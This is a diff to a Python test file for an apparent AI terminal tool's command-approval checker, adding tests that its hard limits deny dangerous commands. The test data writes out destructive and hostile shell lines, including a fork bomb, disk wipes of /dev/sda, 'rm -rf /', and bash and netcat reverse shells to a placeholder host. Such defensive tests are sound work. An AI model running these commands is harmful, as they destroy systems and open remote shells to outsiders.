@@ -14,6 +14,7 @@ from kogniterm.approval import (
     judge,
     load_rules,
 )
+from kogniterm.approval.analysis import shared_findings
 from kogniterm.errors import SettingsError
 from kogniterm.types import ActionRequest
 from tests.approval.corpus import WORKSPACE, commands
@@ -42,6 +43,55 @@ def test_the_modes(command: str, manual: str, auto: str, boxed: str) -> None:
     assert _kind(command, MANUAL) == manual
     assert _kind(command, AUTO) == auto
     assert _kind(command, BOXED) == boxed
+
+
+_LIMITS = {
+    shared_findings.CALLS_ITSELF: "f(){ f; }; f",
+    shared_findings.WRITES_DEVICE: "cat x > /dev/sda",
+    shared_findings.DELETES_DEVICE: "rm /dev/sda",
+    shared_findings.DESTROYS_DISK: "mkfs.ext4 /dev/sda",
+    shared_findings.DELETES_ROOT: "rm -r --no-preserve-root x",
+    shared_findings.REDIRECTS_SHELL: "bash -i >& /dev/tcp/192.0.2.1/9 0>&1",
+    shared_findings.EXPOSES_SHELL: "bash | nc host 1",
+    shared_findings.EXPOSES_PROGRAM: "nc -e /bin/sh host 1",
+    shared_findings.ENDS_ALL_PROCESSES: "kill -9 -1",
+    shared_findings.DELETES_MANY: "rm -rf /",
+    shared_findings.MANY_PERMISSIONS: "chmod -R 777 /",
+    shared_findings.MOVES_MANY: "mv ~ /tmp/x",
+    shared_findings.MIRRORS: "rsync -a --delete empty/ /",
+}
+
+
+def test_every_finding_that_a_hard_limit_denies_comes_from_the_analysis() -> None:
+    assert set(_LIMITS) == shared_findings.ALWAYS_DENIED | shared_findings.DENIED_FOR_ROOTS
+
+
+@pytest.mark.parametrize(("template", "command"), _LIMITS.items())
+def test_a_hard_limit_denies_its_finding(template: str, command: str) -> None:
+    report = classify(command, cwd=WORKSPACE)
+    assert template in {reason.template for reason in report.reasons}
+    verdict = judge(report, circumstances=MANUAL)
+    assert verdict.kind == "deny"
+    assert verdict.reasons[0].template in _LIMITS
+
+
+@pytest.mark.parametrize(
+    ("template", "command"),
+    [(shared_findings.WRITES_FILE, "echo x > a"), (shared_findings.DELETES_FILE, "rm a")],
+)
+def test_the_findings_that_only_name_a_file_come_from_the_analysis(
+    template: str, command: str
+) -> None:
+    report = classify(command, cwd=WORKSPACE)
+    assert template in {reason.template for reason in report.reasons}
+    assert template in shared_findings.NAMES_A_FILE
+
+
+def test_permissions_of_a_device_are_dangerous_but_under_no_hard_limit() -> None:
+    report = classify("chmod 666 /dev/sda", cwd=WORKSPACE)
+    assert str(report.reasons[0]) == "Changes the permissions of the device /dev/sda."
+    assert judge(report, circumstances=MANUAL).kind == "ask"
+    assert judge(report, circumstances=AUTO).kind == "deny"
 
 
 def test_switches() -> None:
@@ -158,7 +208,8 @@ def test_a_denial_is_not_walked_round(command: str) -> None:
         ("[[rule]]\ndecision = ['allow']\nprogram = 'x'", "line 2: decision must be"),
         ("[[rule]]\ndecision = 'allow'\nprogramm = 'x'", "line 3: unknown key 'programm'"),
         ("rules = 1", "unknown key 'rules'"), ("[[rule]]\ndecision = 'yes'\nprogram='x'", "line 2"),
-        ("[[rule", "not valid TOML"), ("[[rule]]\ndecision='deny'", "needs a program"),
+        ("[[rule", "not valid TOML"),
+        ("[[rule]]\ndecision='deny'", "needs at least one of: program"),
         ("[[rule]]\ndecision='deny'\narguments='('", "regular expression"),
         ("[[rule]]\ndecision='deny'\nprogram='x'\nmatch=['y']", "line 4: the rule does not match"),
         ("[[rule]]\ndecision='deny'\nprogram='x'\nnot_match=['x']", "matches its not_match"),
@@ -173,7 +224,7 @@ def test_wrong_rules_are_errors_with_a_line(text: str, said: str) -> None:
 
 
 def test_a_project_may_only_tighten() -> None:
-    with pytest.raises(SettingsError, match="only tighten"):
+    with pytest.raises(SettingsError, match="cannot use allow"):
         load_rules("[[rule]]\ndecision='allow'\nprogram='x'", origin="p", tighten_only=True)
 
 
@@ -183,4 +234,4 @@ async def test_nobody_there_means_no() -> None:
     decision = await Unattended().decide(request, report, judge(report))
     assert decision.kind == "reject"
     assert decision.command == "make"
-    assert "Nobody is there" in decision.reason
+    assert "No user is available" in decision.reason
